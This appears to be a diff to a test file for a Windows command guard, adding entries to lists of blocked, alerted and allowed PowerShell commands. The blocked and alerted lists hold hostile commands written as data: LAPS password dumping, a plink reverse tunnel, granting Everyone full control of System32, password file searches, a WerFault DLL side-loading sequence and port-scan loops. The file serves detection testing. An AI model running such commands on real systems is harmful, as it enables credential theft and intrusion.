@@ -44,6 +44,7 @@ const BLOCK: readonly string[] = [
   "Get-ADComputer -Filter * -Properties ms-Mcs-AdmPwd | Select-Object Name",
   'icacls C:\\Windows\\System32 /grant Everyone:F',
   'plink.exe -ssh -l u -pw p -R 9999:127.0.0.1:3389 203.0.113.4',
+  'Copy-Item C:\\Windows\\System32\\WerFault.exe C:\\ProgramData\\x; Copy-Item C:\\T\\faultrep.dll C:\\ProgramData\\x; & C:\\ProgramData\\x\\WerFault.exe',
 ]
 
 const ALERT: readonly string[] = [
@@ -94,6 +95,9 @@ const ALERT: readonly string[] = [
   "Get-ChildItem C:\\Users -Recurse -Include *.txt,*.xml | Select-String -Pattern 'password|secret'",
   'findstr /si "password=" C:\\*.config C:\\*.ini',
   'New-SmbShare -Name c -Path C:\\ -FullAccess Everyone',
+  '1..1024 | % { (New-Object Net.Sockets.TcpClient).Connect("10.0.0.5", $_) }',
+  'foreach ($p in 1..1024) { Test-NetConnection 10.0.0.5 -Port $p }',
+  '$ports = 21,22,80,443,8080; foreach ($p in $ports) { $c = New-Object System.Net.Sockets.TcpClient; $c.ConnectAsync("10.0.0.5", $p).Wait(250) }',
 ]
 
 const ALLOW: readonly string[] = [
@@ -161,6 +165,10 @@ const ALLOW: readonly string[] = [
   'icacls build /grant bob:F /t',
   'plink -ssh build01 -L 5432:localhost:5432 -N',
   'bcdedit /enum all',
+  'foreach ($i in 1..30) { if ((Test-NetConnection db -Port $port).TcpTestSucceeded) { break } }',
+  'foreach ($p in 80,443) { Test-NetConnection web01 -Port $p }',
+  'foreach ($p in 3000,3001,5432,6379,8080) { Test-NetConnection localhost -Port $p }',
+  'Copy-Item C:\\Windows\\System32\\robocopy.exe C:\\tools; & C:\\tools\\robocopy.exe a b',
 ]
 
 describe('on Windows', () => {
